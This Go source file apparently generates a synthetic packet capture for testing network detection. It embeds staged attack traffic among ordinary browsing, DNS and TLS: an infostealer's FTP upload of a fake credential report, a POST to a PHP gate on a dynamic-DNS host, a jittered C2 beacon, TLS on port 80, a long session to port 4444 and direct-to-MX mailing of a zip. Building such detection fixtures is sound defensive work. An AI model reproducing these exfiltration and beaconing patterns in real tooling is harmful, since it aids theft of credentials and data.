package synth

import (
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// CaptureSampleFile is the file WriteCaptureSample writes, under its folder.
const CaptureSampleFile = "pcap/office-2024-03-05.pcap"

// WriteCaptureSample writes the packet capture of the sample (testdata/pcap): an hour of an
// office network's traffic on the sample day, as a sensor on its uplink records it, with these
// cases among the browsing, TLS and DNS of eight workstations:
//
//   - 10.60.0.31 logs in to an FTP server outside (203.0.113.50) and uploads a stolen
//     credential report over a passive data channel (an infostealer's FTP exfiltration);
//   - 10.60.0.32 POSTs an encrypted form to a PHP gate on a dynamic-DNS host
//     (update-check.duckdns.org, 198.51.100.77) with a browser user agent and no referrer;
//   - 10.60.0.33 calls 203.0.113.80:8080 every 30 s (jitter 10%) over one keep-alive HTTP
//     connection, POST /beacon as Go's HTTP client;
//   - 10.60.0.34 speaks TLS to 198.51.100.90 on port 80;
//   - 10.60.0.35 keeps a raw TCP session to 203.0.113.99:4444 open for 55 minutes;
//   - 10.60.0.36 mails a zip straight to an outside mail server (192.0.2.25:25).
//
// The capture is the same on every call (a fixed seed and hand-built TLS hellos).
func WriteCaptureSample(w io.Writer) error {
	start := time.Date(2024, 3, 5, 9, 0, 0, 0, time.UTC)
	c, err := NewCapture(w, start)
	if err != nil {
		return err
	}
	c.Gap = 300 * time.Microsecond
	s := &sched{c: c, r: rand.New(rand.NewPCG(2024, 305))}
	s.background(start)
	s.ftpExfil(start.Add(17 * time.Minute))
	s.gatePost(start.Add(23 * time.Minute))
	s.keepAliveBeacon(start.Add(2 * time.Minute))
	s.tlsOn80(start.Add(11 * time.Minute))
	s.rawSession(start.Add(90 * time.Second))
	s.directMail(start.Add(41 * time.Minute))
	return s.run()
}

// sched orders the steps of many conversations by time, so that interleaved conversations
// are written in the order a sensor sees them.
type sched struct {
	c     *Capture
	r     *rand.Rand
	steps []step
}

type step struct {
	at  time.Time
	seq int
	do  func()
}

func (s *sched) at(t time.Time, do func()) {
	s.steps = append(s.steps, step{at: t, seq: len(s.steps), do: do})
}

func (s *sched) run() error {
	slices.SortFunc(s.steps, func(a, b step) int {
		if c := a.at.Compare(b.at); c != 0 {
			return c
		}
		return a.seq - b.seq
	})
	for _, st := range s.steps {
		if d := st.at.Sub(s.c.Now()); d > 0 {
			s.c.Advance(d)
		}
		st.do()
	}
	return s.c.Err()
}

func ipAddr(s string) netip.Addr { return netip.MustParseAddr(s) }

func (s *sched) port() uint16 { return uint16(49152 + s.r.IntN(16000)) }

var sampleSites = []struct{ host, ip string }{
	{"intranet.corp.example", "10.60.1.10"}, {"www.example.org", "93.184.215.14"},
	{"news.example.net", "198.51.100.140"}, {"docs.example.com", "203.0.113.140"},
}

var sampleTLS = []struct{ name, ip string }{
	{"login.example-idp.com", "198.51.100.150"}, {"mail.example-saas.com", "203.0.113.150"},
	{"cdn.example-static.net", "192.0.2.150"}, {"api.example-crm.com", "198.51.100.151"},
}

const browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"

// background is the office's ordinary hour: page loads with their referrers, a login form
// posted after its page, OCSP checks, TLS sessions and DNS lookups of the names.
func (s *sched) background(start time.Time) {
	resolver := ipAddr("10.60.0.2")
	for ws := 11; ws <= 18; ws++ {
		client := ipAddr(fmt.Sprintf("10.60.0.%d", ws))
		for t := start.Add(time.Duration(s.r.IntN(120)) * time.Second); t.Before(start.Add(time.Hour)); t = t.Add(time.Duration(60+s.r.IntN(400)) * time.Second) {
			switch k := s.r.IntN(10); {
			case k < 4:
				site := sampleSites[s.r.IntN(len(sampleSites))]
				s.lookup(t, client, resolver, site.host, site.ip)
				s.pageLoad(t.Add(20*time.Millisecond), client, site.host, ipAddr(site.ip), k == 0)
			case k < 9:
				site := sampleTLS[s.r.IntN(len(sampleTLS))]
				s.lookup(t, client, resolver, site.name, site.ip)
				s.tlsSession(t.Add(20*time.Millisecond), client, ipAddr(site.ip), 443, site.name, 1000+s.r.IntN(6000))
			default:
				s.ocsp(t, client)
			}
		}
	}
}

func (s *sched) lookup(t time.Time, client, resolver netip.Addr, name, answer string) {
	id := uint16(s.r.IntN(65536))
	sport := s.port()
	s.at(t, func() {
		s.c.UDP(netip.AddrPortFrom(client, sport), netip.AddrPortFrom(resolver, 53), DNSMessage(id, name, false, ipAddr(answer)))
		s.c.UDP(netip.AddrPortFrom(resolver, 53), netip.AddrPortFrom(client, sport), DNSMessage(id, name, true, ipAddr(answer)))
	})
}

// dnsMsg is a DNS query for name (type A), or its response with one answer.
func DNSMessage(id uint16, name string, response bool, answer netip.Addr) []byte {
	flags, an := 0x0100, 0
	if response {
		flags, an = 0x8180, 1
	}
	b := []byte{byte(id >> 8), byte(id), byte(flags >> 8), byte(flags), 0, 1, 0, byte(an), 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		b = append(append(b, byte(len(l))), l...)
	}
	b = append(b, 0, 0, 1, 0, 1)
	if response {
		a := answer.As4()
		b = append(b, 0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4, a[0], a[1], a[2], a[3])
	}
	return b
}

func (s *sched) pageLoad(t time.Time, client netip.Addr, host string, server netip.Addr, login bool) {
	sport := s.port()
	size := 1000 + s.r.IntN(5000)
	s.at(t, func() {
		h := s.c.TCP(netip.AddrPortFrom(client, sport), netip.AddrPortFrom(server, 80))
		h.Send([]byte("GET / HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + browserUA + "\r\nAccept: text/html\r\n\r\n"))
		h.Reply(httpOK("text/html", size))
		h.Send([]byte("GET /style.css HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + browserUA + "\r\nReferer: http://" + host + "/\r\n\r\n"))
		h.Reply(httpOK("text/css", 1500))
		if login {
			form := "user=jdoe&password=correct+horse&remember=1"
			h.Send([]byte(fmt.Sprintf("POST /login.php HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: http://%s/\r\nOrigin: http://%s\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", host, browserUA, host, host, len(form), form)))
			h.Reply(httpOK("text/html", 800))
		}
		h.Close()
	})
}

func httpOK(ctype string, size int) []byte {
	body := strings.Repeat("x", size)
	return []byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s", ctype, size, body))
}

func (s *sched) ocsp(t time.Time, client netip.Addr) {
	sport := s.port()
	s.at(t, func() {
		h := s.c.TCP(netip.AddrPortFrom(client, sport), netip.AddrPortFrom(ipAddr("192.0.2.160"), 80))
		req := strings.Repeat("\x30", 83)
		h.Send([]byte(fmt.Sprintf("POST / HTTP/1.1\r\nHost: ocsp.example-ca.com\r\nUser-Agent: Microsoft-CryptoAPI/10.0\r\n"+
			"Content-Type: application/ocsp-request\r\nContent-Length: %d\r\n\r\n%s", len(req), req)))
		h.Reply(httpOK("application/ocsp-response", 1400))
		h.Close()
	})
}

func (s *sched) tlsSession(t time.Time, client, server netip.Addr, port uint16, name string, size int) {
	sport := s.port()
	s.at(t, func() {
		h := s.c.TCP(netip.AddrPortFrom(client, sport), netip.AddrPortFrom(server, port))
		h.Send(TLSClientHello(name))
		h.Reply(append(TLSServerHello(name), tlsRecords(23, size)...))
		h.Send(tlsRecords(23, 600))
		h.Close()
	})
}

// tlsRecords is n bytes of TLS records of a type (application data: 23).
func tlsRecords(typ byte, n int) []byte {
	var b []byte
	for n > 0 {
		k := min(n, 16000)
		b = append(b, typ, 3, 3, byte(k>>8), byte(k))
		b = append(b, make([]byte, k)...)
		n -= k
	}
	return b
}

func (s *sched) ftpExfil(t time.Time) {
	client, server := ipAddr("10.60.0.31"), ipAddr("203.0.113.50")
	report := "<html><body>Time: 03/05/2024 09:17:02<br>User Name: jdoe<br>Computer Name: WS31<br><hr>" +
		strings.Repeat("Host: https://login.example-idp.com/<br>Username: jdoe@corp.example<br>Password: Winter2024!<br>Application: Chrome<br><hr>", 12) +
		"</body></html>"
	s.at(t, func() {
		ctl := s.c.TCP(netip.AddrPortFrom(client, 49301), netip.AddrPortFrom(server, 21))
		ctl.Reply([]byte("220 ProFTPD Server ready\r\n"))
		ctl.Send([]byte("USER drop@files.example-host.net\r\n"))
		ctl.Reply([]byte("331 Password required\r\n"))
		ctl.Send([]byte("PASS s3cr3tDrop!\r\n"))
		ctl.Reply([]byte("230 User logged in\r\n"))
		ctl.Send([]byte("TYPE I\r\n"))
		ctl.Reply([]byte("200 Type set to I\r\n"))
		ctl.Send([]byte("PASV\r\n"))
		ctl.Reply([]byte("227 Entering Passive Mode (203,0,113,50,195,80)\r\n"))
		data := s.c.TCP(netip.AddrPortFrom(client, 49302), netip.AddrPortFrom(server, 50000))
		ctl.Send([]byte("STOR PW_jdoe-WS31_2024_03_05_09_17_02.html\r\n"))
		ctl.Reply([]byte("150 Opening BINARY mode data connection\r\n"))
		data.Send([]byte(report))
		data.Close()
		ctl.Reply([]byte("226 Transfer complete\r\n"))
		ctl.Send([]byte("QUIT\r\n"))
		ctl.Reply([]byte("221 Goodbye\r\n"))
		ctl.Close()
	})
}

func (s *sched) gatePost(t time.Time) {
	client, server := ipAddr("10.60.0.32"), ipAddr("198.51.100.77")
	cipher := make([]byte, 330)
	for i := range cipher {
		cipher[i] = byte(s.r.IntN(256))
	}
	body := "p=" + strings.NewReplacer("+", "%2B", "=", "%3D").Replace(base64.StdEncoding.EncodeToString(cipher))
	s.lookup(t.Add(-50*time.Millisecond), client, ipAddr("10.60.0.2"), "update-check.duckdns.org", server.String())
	s.at(t, func() {
		h := s.c.TCP(netip.AddrPortFrom(client, 49401), netip.AddrPortFrom(server, 80))
		h.Send([]byte(fmt.Sprintf("POST /gate/inc/4f2a9c1d77e0.php HTTP/1.1\r\nHost: update-check.duckdns.org\r\n"+
			"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:99.0) Gecko/20100101 Firefox/99.0\r\n"+
			"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)))
		h.Reply([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
		h.Close()
	})
}

func (s *sched) keepAliveBeacon(t time.Time) {
	client, server := ipAddr("10.60.0.33"), ipAddr("203.0.113.80")
	var h *TCPConn
	s.at(t, func() { h = s.c.TCP(netip.AddrPortFrom(client, 49501), netip.AddrPortFrom(server, 8080)) })
	at := t.Add(time.Second)
	for i := 0; at.Before(t.Add(55 * time.Minute)); i++ {
		body := fmt.Sprintf(`{"paw":"wkhqzm","host":"WS33","results":[],"seq":%d}`, i)
		s.at(at, func() {
			h.Send([]byte(fmt.Sprintf("POST /beacon HTTP/1.1\r\nHost: 203.0.113.80:8080\r\nUser-Agent: Go-http-client/1.1\r\n"+
				"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)))
			h.Reply([]byte("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 36\r\n\r\n{\"sleep\":30,\"instructions\":\"W10=\"}\r\n"))
		})
		at = at.Add(27*time.Second + time.Duration(s.r.IntN(6000))*time.Millisecond)
	}
	s.at(at, func() { h.Close() })
}

func (s *sched) tlsOn80(t time.Time) {
	for i := range 4 {
		s.tlsSession(t.Add(time.Duration(i)*7*time.Minute), ipAddr("10.60.0.34"), ipAddr("198.51.100.90"), 80, "static.example-c2.net", 4000)
	}
}

func (s *sched) rawSession(t time.Time) {
	client, server := ipAddr("10.60.0.35"), ipAddr("203.0.113.99")
	var h *TCPConn
	s.at(t, func() {
		h = s.c.TCP(netip.AddrPortFrom(client, 49601), netip.AddrPortFrom(server, 4444))
		h.Send([]byte{0xde, 0xad, 0x01, 0x00, 0x10, 'h', 'e', 'l', 'l', 'o', ' ', 'W', 'S', '3', '5', 0, 0, 0, 0, 0})
	})
	for at := t.Add(45 * time.Second); at.Before(t.Add(55 * time.Minute)); at = at.Add(time.Duration(40+s.r.IntN(40)) * time.Second) {
		n := 20 + s.r.IntN(200)
		s.at(at, func() {
			h.Reply(append([]byte{0xde, 0xad, 0x02}, make([]byte, 16)...))
			h.Send(append([]byte{0xde, 0xad, 0x03}, make([]byte, n)...))
		})
	}
}

func (s *sched) directMail(t time.Time) {
	client, server := ipAddr("10.60.0.36"), ipAddr("192.0.2.25")
	zip := append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), make([]byte, 6000)...)
	enc := base64.StdEncoding.EncodeToString(zip)
	var lines []string
	for len(enc) > 76 {
		lines, enc = append(lines, enc[:76]), enc[76:]
	}
	lines = append(lines, enc)
	msg := "From: J Doe <jdoe@corp.example>\r\nTo: archive.box@example-mail.net\r\nSubject: q1 numbers\r\n" +
		"X-Mailer: swaks v20240103.0\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"----=_b1\"\r\n\r\n" +
		"------=_b1\r\nContent-Type: text/plain\r\n\r\nas discussed\r\n" +
		"------=_b1\r\nContent-Type: application/zip; name=\"finance_q1.zip\"\r\nContent-Transfer-Encoding: base64\r\n" +
		"Content-Disposition: attachment; filename=\"finance_q1.zip\"\r\n\r\n" + strings.Join(lines, "\r\n") + "\r\n------=_b1--\r\n.\r\n"
	s.at(t, func() {
		m := s.c.TCP(netip.AddrPortFrom(client, 49701), netip.AddrPortFrom(server, 25))
		m.Reply([]byte("220 mx.example-mail.net ESMTP\r\n"))
		m.Send([]byte("EHLO WS36\r\n"))
		m.Reply([]byte("250-mx.example-mail.net\r\n250 8BITMIME\r\n"))
		m.Send([]byte("MAIL FROM:<jdoe@corp.example>\r\n"))
		m.Reply([]byte("250 ok\r\n"))
		m.Send([]byte("RCPT TO:<archive.box@example-mail.net>\r\n"))
		m.Reply([]byte("250 ok\r\n"))
		m.Send([]byte("DATA\r\n"))
		m.Reply([]byte("354 go ahead\r\n"))
		m.Send([]byte(msg))
		m.Reply([]byte("250 queued\r\n"))
		m.Send([]byte("QUIT\r\n"))
		m.Reply([]byte("221 bye\r\n"))
		m.Close()
	})
}
